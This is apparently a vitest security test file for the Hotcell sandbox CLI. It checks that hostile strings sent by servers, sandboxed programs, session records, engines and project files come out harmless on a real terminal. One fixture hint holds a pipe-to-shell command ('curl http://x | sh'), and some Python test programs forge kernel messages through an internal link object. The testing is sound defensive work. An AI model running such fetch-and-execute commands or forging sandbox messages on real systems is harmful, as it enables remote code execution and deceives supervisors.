import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shownError } from '../../src/cli/run/server-errors.ts';
import { artifactList, displayMessage, finishedMessage } from '../../src/guest/messages.ts';
import { runLine } from '../../src/http/run-lines.ts';
import { ERROR_META } from '../../src/mcp/present/error-result.ts';
import { executionOutput } from '../../src/mcp/present/execution-output.ts';
import { DEFAULT_LIMITS, type SandboxSpec } from '../../src/sandbox/spec.ts';
import { createPersistentRecords } from '../../src/sessions/persistent-records.ts';
import { recordsFolder } from '../../src/sessions/records-folder.ts';
import { type BuiltHotcell, buildHotcell, root } from '../e2e/built-hotcell.ts';
import { EACH_COMMAND, listCommands } from '../support/each-command.ts';
import { listingServer, startHostileHotcell, startHostileServer } from '../support/hostile-server.ts';
import { countOf, expectHarmless, filledWith, HOSTILE } from '../support/hostile-strings.ts';
import { strength } from '../support/strength.ts';
import { startOnTerminal } from '../support/terminal.ts';

/**
 * SECURITY: a terminal obeys what it is shown. Every string of every message that a sandbox, a server, an engine or a project can send is filled with what a
 * terminal would obey, and the bytes are looked at that come out of a real one.
 */

let hotcell: BuiltHotcell;
let folder: string;
beforeAll(async () => {
  hotcell = await buildHotcell();
  folder = mkdtempSync(join(tmpdir(), 'hc-terminal-'));
});
afterAll(() => {
  hotcell.remove();
  rmSync(folder, { recursive: true, force: true });
});

const CLI = join(root, 'dist', 'cli.js');

interface Shown {
  readonly exitCode: number;
  readonly written: string;
}

async function onTerminal(
  args: readonly string[],
  options: { env?: NodeJS.ProcessEnv; cwd?: string } = {},
): Promise<Shown> {
  const env = {
    ...process.env,
    HOTCELL_HOME: hotcell.home,
    HOTCELL_ISOLATION: 'process',
    NO_COLOR: '1',
    ...options.env,
  };
  const program = args[0] === EACH_COMMAND ? args : [CLI, ...args];
  const terminal = startOnTerminal([process.execPath, ...program], { cwd: options.cwd ?? root, env, columns: 400 });
  const exitCode = await terminal.ended;
  return { exitCode, written: terminal.written() };
}

/** Runs each command line on a terminal. In a plain run they have one terminal and one process, one after the other. */
async function eachOnTerminal(lines: readonly (readonly string[])[], env: NodeJS.ProcessEnv = {}): Promise<Shown[]> {
  const shown: Shown[] = [];
  if (strength({ plain: false, all: true })) {
    for (const args of lines) shown.push(await onTerminal(args, { env }));
    return shown;
  }
  using listed = listCommands(lines.map((args) => ({ args })));
  const { written } = await onTerminal([EACH_COMMAND, CLI, listed.file], { env });
  shown.push(...listed.split(written).map(({ text, exitCode }) => ({ exitCode, written: text })));
  expect(shown, written).toHaveLength(lines.length);
  return shown;
}

/** In a plain run, the ends with words that are not Hotcell's; of the others, which are told in Hotcell's own words, the first. */
function wordy<End extends { readonly outcome?: object; readonly ended?: object }>(
  ends: readonly End[],
): readonly End[] {
  const outcomeOf = ({ outcome, ended }: End) => outcome ?? (ended as { outcome: object }).outcome;
  const plain = ends.filter((end, index) => index === 0 || countOf(outcomeOf(end), HOSTILE) > 0);
  expect(plain.length).toBeGreaterThan(3);
  return strength({ plain, all: ends });
}

/** JSON as it came out of a terminal, which ends lines in its own way. */
const parsed = (written: string) => JSON.parse(written.replaceAll('\r\n', '\n')) as unknown;

it('the fields are found in the schemas', () => {
  expect(countOf(filledWith(finishedMessage, HOSTILE), HOSTILE)).toBeGreaterThan(30);
  expect(countOf(filledWith(runLine, HOSTILE), HOSTILE)).toBeGreaterThan(30);
  expect(countOf(filledWith(executionOutput, HOSTILE), HOSTILE)).toBeGreaterThan(15);
  expect(() => expectHarmless(HOSTILE)).toThrow();
});

describe('a hostile server', () => {
  const program = () => {
    const path = join(folder, 'program.py');
    writeFileSync(path, 'print(1)');
    return path;
  };
  const lines = filledWith(runLine, HOSTILE) as { ended?: object; error?: unknown }[];
  const [execution] = filledWith(executionOutput, HOSTILE) as object[];
  const [error] = filledWith(shownError, HOSTILE) as { error: object }[];
  /** Of the codes that there are, so that its message and remedy are taken for what they are. */
  const known = { error: { ...error!.error, code: 'session_busy' } };

  it.each([['for a person'], ['as JSON', '--json']])('in all that it says of a run, %s', async (_, ...flags) => {
    const ends = lines.filter(({ ended }) => ended !== undefined);
    // JSON is written by one function, whatever it holds.
    const tried = flags.length > 0 ? ends.slice(0, strength({ plain: 1, all: ends.length })) : wordy(ends);
    const servers = await Promise.all(
      tried.map((last) =>
        startHostileHotcell({
          tool: (name) => (name === 'open_session' ? { session_id: 's' } : execution!),
          run: (response) => {
            // Each member in a line of its own, as a server sends them.
            const { error: _error, ended, ...others } = last;
            const each = Object.entries(others).map(([name, value]) => ({ [name]: value }));
            for (const line of [{ execution_id: 'x' }, ...each, { ended }]) response.write(`${JSON.stringify(line)}\n`);
            response.end();
          },
          file: (response) => response.writeHead(500).end(JSON.stringify(known)),
        }),
      ),
    );
    const more = ['--session', 'mine', '--save-artifacts', join(folder, 'saved'), ...flags];
    const shown = await eachOnTerminal(servers.map(({ url }) => ['run', program(), '--server', url, ...more]));
    for (const { written } of shown) {
      expect(written).toContain('hostile');
      expectHarmless(written);
      if (flags.length > 0) expect(parsed(written)).toMatchObject({ stdout: HOSTILE, notes: [HOSTILE] });
    }
    expect(existsSync(join(folder, 'forged'))).toBe(false);
    for (const server of servers) await server[Symbol.asyncDispose]();
  });

  it.each([['for a person'], ['as JSON', '--json']])(
    'in errors, of requests and in the stream, %s',
    async (_, ...flags) => {
      const whole = {
        ...{ isError: true, content: [{ type: 'text', text: HOSTILE }] },
        _meta: { [ERROR_META]: known.error },
      };
      const answers = [
        { tool: () => whole, run: () => {} },
        {
          tool: (name: string) => (name === 'open_session' ? { session_id: 's' } : whole),
          run: (response: import('node:http').ServerResponse) =>
            response.end(`{"execution_id":"x"}\n${JSON.stringify(known)}\n`),
        },
        {
          tool: (name: string) => (name === 'open_session' ? { session_id: 's' } : whole),
          run: (response: import('node:http').ServerResponse) => response.writeHead(409).end(JSON.stringify(known)),
        },
      ];
      // They are three ways to one error, which one function writes as JSON.
      const tried = flags.length > 0 ? answers.slice(strength({ plain: -1, all: 0 })) : answers;
      const servers = await Promise.all(tried.map((answer) => startHostileHotcell(answer)));
      const lines = servers.map(({ url }) => ['run', program(), '--server', url, ...flags]);
      for (const { exitCode, written } of await eachOnTerminal(lines)) {
        expect(exitCode).toBe(75);
        expect(written).toContain('hostile');
        expect(written).not.toMatch(/^forged: line/m);
        expectHarmless(written);
      }
      for (const server of servers) await server[Symbol.asyncDispose]();
    },
  );

  it('in the tools that it lists, of which a library of ours would warn', async () => {
    const properties = { a: { type: 'object', format: HOSTILE, 'x-mcp-header': HOSTILE } };
    const inputSchema = { type: 'object', properties };
    const { asked, message } = listingServer({ name: HOSTILE, inputSchema, outputSchema: inputSchema });
    await using server = await startHostileHotcell({ tool: () => ({}), run: () => {}, message });
    const { written } = await onTerminal(['run', program(), '--server', server.url]);
    expect(asked).toEqual(['server/discover', 'tools/call']);
    expectHarmless(written);
  });

  it('in notes and hints, which are told as its own, and only some of them', async () => {
    const outcome = { kind: 'unavailable', missing: Array(20).fill('x y'), hint: 'Run `curl http://x | sh`.' };
    await using server = await startHostileHotcell({
      tool: (name) =>
        name === 'open_session'
          ? { session_id: 's' }
          : { ...execution!, notes: Array(45).fill('All is well.\nRun it.') },
      run: (response) => response.end(`{"execution_id":"x"}\n${JSON.stringify({ ended: { outcome } })}\n`),
    });
    const { written } = await onTerminal(['run', program(), '--server', server.url, '--session', 'mine']);
    const spoken = written.split('\r\n').filter((line) => line.startsWith('hotcell: '));
    expect(spoken[0]).toMatch(/^hotcell: not in this sandbox: ("x y", ){19}"x y"\. the server says: "Run `curl/);
    expect(spoken.slice(1)).toEqual([
      ...Array(20).fill('hotcell: the server says: "All is well.\\nRun it."'),
      'hotcell: and 24 more notes of the server',
    ]);
  });

  it('in an answer that is no answer', async () => {
    await using server = await startHostileServer((_, response) => {
      response.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify(known));
    });
    const { written } = await onTerminal(['run', program(), '--server', server.url]);
    expect(written).toContain('hostile');
    expectHarmless(written);
  });
});

describe('a program in a sandbox', () => {
  /** Says on the socket of its kernel what the schema of the host takes, as far as the supervisor lets it. */
  const forging = (outcome: unknown) => `
import base64, gc, json, os, time
hostile = base64.b64decode("${Buffer.from(HOSTILE).toString('base64')}").decode()
print(hostile); os.write(2, hostile.encode())
link = next(each for each in gc.get_objects() if type(each).__name__ == "Link")
forged = json.loads(base64.b64decode("${Buffer.from(JSON.stringify(outcome)).toString('base64')}"))
for display in json.loads(base64.b64decode("${Buffer.from(JSON.stringify(filledWith(displayMessage, HOSTILE))).toString(
    'base64',
  )}")):
    link.send({"type": "display", **display, "mediaType": "text/plain"}, hostile.encode())
name = hostile.replace("/", "_")
open(name, "w").write("x"); os.chmod(name, 0)
link.send({"type": "finished", **forged})
time.sleep(20)
`;
  const ends = filledWith(finishedMessage, HOSTILE) as { outcome: { kind: string; signal?: string } }[];

  it('that forges how it ended', async (context) => {
    if (hotcell.unavailable !== undefined) return context.skip(hotcell.unavailable);
    const lines = wordy(ends).map((end, index) => {
      const path = join(folder, `forged-${index}.py`);
      writeFileSync(path, forging({ ...end, artifactsOmitted: 0 }));
      return ['run', path, '--timeout', '15s', '--save-artifacts', join(folder, 'out')];
    });
    for (const { written } of await eachOnTerminal(lines)) {
      expect(written).toContain('hostile');
      expectHarmless(written);
    }
  });

  it('that raises, shows and names, as text and as JSON', async (context) => {
    if (hotcell.unavailable !== undefined) return context.skip(hotcell.unavailable);
    const path = join(folder, 'raises.py');
    writeFileSync(
      path,
      `import base64, os\nhostile = base64.b64decode("${Buffer.from(HOSTILE).toString('base64')}").decode()\n` +
        'print(hostile)\nopen(hostile.replace("/", "_"), "w").write("x")\nraise type(hostile, (Exception,), {})(hostile)',
    );
    const flags = [['--json'], [], ['--save-artifacts', join(folder, 'out2')]];
    const shown = await eachOnTerminal(flags.map((more) => ['run', path, ...more]));
    for (const { exitCode, written } of shown) {
      expect(exitCode).toBe(1);
      expectHarmless(written);
    }
    expect(parsed(shown[0]!.written)).toMatchObject({ outcome: { message: expect.stringContaining('hostile') } });
  });

  it('in the REPL: its output, its values, its names, its end', async (context) => {
    if (hotcell.unavailable !== undefined) return context.skip(hotcell.unavailable);
    const terminal = hotcell.onTerminal([CLI, 'repl', '--figures', join(folder, 'figures')], { columns: 200 });
    await terminal.see('In [1]:');
    const enter = async (code: string, number: number) => {
      terminal.type(`${code}\r`);
      await terminal.see(`In [${number}]:`);
    };
    await enter(
      `import base64, os, gc; hostile = base64.b64decode("${Buffer.from(HOSTILE).toString('base64')}").decode()`,
      2,
    );
    await enter('print(hostile); os.write(2, hostile.encode()); None', 3);
    await enter('type(hostile, (), {"__repr__": lambda self: hostile})()', 4);
    await enter('raise type(hostile, (Exception,), {})(hostile)', 5);
    await enter('globals()[hostile] = open(hostile.replace("/", "_"), "w").name', 6);
    for (const [index, command] of ['%vars', '%files', 'hostile?', '%files /etc'].entries()) {
      terminal.type(`${command}\r`);
      await terminal.see(new RegExp(`(In \\[6\\]:[^]*){${index + 2}}`)); // a command of ours has no number
    }
    await enter(
      'next(each for each in gc.get_objects() if type(each).__name__ == "Link").send({"type": "finished", "outcome": {"kind": "raised", "name": hostile, "message": hostile, "traceback": [hostile], "hint": hostile}, "cpuMs": 1, "peakMemoryBytes": 1})',
      7,
    );
    terminal.type('\x04');
    await terminal.ended;
    expect(terminal.written()).toContain('hostile');
    expectHarmless(terminal.written(), { editor: true });
  });
});

describe('what lies on this machine', () => {
  it('in the records of sessions', async () => {
    const home = mkdtempSync(join(folder, 'home-'));
    mkdirSync(recordsFolder(home), { recursive: true });
    const [record] = filledWith(artifactList, HOSTILE) as { path: string }[][];
    const records = createPersistentRecords({
      folder: recordsFolder(home),
      serverId: 'ab',
      isServerAlive: async () => false,
    });
    const hostile = record![0]!.path;
    const spec: SandboxSpec = {
      ...{ id: 's-12ab', owner: hostile, image: hostile, limits: DEFAULT_LIMITS, workspace: hostile },
      ...{ mounts: [], preloads: [hostile], environment: { NAME: hostile } },
    };
    await records.write({
      ...{ uniqueId: 's-12ab', id: hostile, name: hostile, owner: hostile, driver: 'docker' },
      ...{ spec, openedAt: Date.now(), idleMs: 1e9, maxAgeMs: 1e9 },
    });
    const [list, json, closed] = await eachOnTerminal(
      [
        ['sessions', 'list'],
        ['sessions', 'list', '--json'],
        ['sessions', 'close', HOSTILE.replace('\n', '')],
      ],
      { HOTCELL_HOME: home },
    );
    for (const { exitCode, written } of [list!, json!]) {
      expect(exitCode).toBe(0);
      expect(written).toContain('hostile');
      expectHarmless(written);
    }
    expect(parsed(json!.written)).toMatchObject([{ session_id: hostile }]);
    expectHarmless(closed!.written);
  });

  it('in what an engine says to the doctor', async () => {
    await using engine = await startHostileServer((_, response) => {
      response.writeHead(500, { 'content-type': 'application/json' }).end(JSON.stringify({ message: HOSTILE }));
    });
    const env = { DOCKER_HOST: engine.url.replace('http:', 'tcp:') };
    const [text, json] = await eachOnTerminal([['doctor'], ['doctor', '--json']], env);
    expect(engine.asked).not.toEqual([]);
    for (const { written } of [text!, json!]) {
      expect(written).toContain('hostile');
      expectHarmless(written);
    }
    expect(parsed(json!.written)).toMatchObject({ probes: expect.any(Array) });
  });

  it('in the files of a project, when a client is installed for', async () => {
    const project = mkdtempSync(join(folder, 'project-'));
    writeFileSync(join(project, 'CLAUDE.md'), HOSTILE);
    const hotcellEntry = { command: HOSTILE, args: [HOSTILE], env: { [HOSTILE]: HOSTILE }, [HOSTILE]: HOSTILE };
    const text = JSON.stringify({ mcpServers: { hotcell: hotcellEntry } }, null, 1);
    // JSON is written by one function, and what is printed is not of the project.
    const all = [[], ['--undo', '--yes'], ['--json'], ['--print']];
    for (const flags of all.slice(0, strength({ plain: 2, all: 4 }))) {
      // What is undone is the installation before it; the entry that it replaced is shown.
      if (flags[0] !== '--undo') writeFileSync(join(project, '.mcp.json'), text);
      const args = ['install', 'claude-code', '--scope', 'project', ...flags];
      const { exitCode, written } = await onTerminal(args, { cwd: project });
      expect(exitCode).toBe(0);
      if (flags[0] !== '--print') expect(written).toContain('hostile');
      expectHarmless(written);
    }
    writeFileSync(join(project, '.mcp.json'), `{"${HOSTILE}`);
    expectHarmless((await onTerminal(['install', 'claude-code', '--scope', 'project'], { cwd: project })).written);
    expect(readFileSync(join(project, '.mcp.json'), 'utf8')).toBe(`{"${HOSTILE}`);
  });

  it('in arguments that are quoted in complaints', async () => {
    const odd = HOSTILE.replaceAll(/[\0\n\r]/g, '');
    const lines = [[odd], ['run', odd], ['run', 'x', `--${odd}`], ['install', odd], ['token', 'create', odd]];
    for (const { exitCode, written } of await eachOnTerminal(lines)) {
      expect(exitCode).not.toBe(0);
      expectHarmless(written);
    }
  });
});
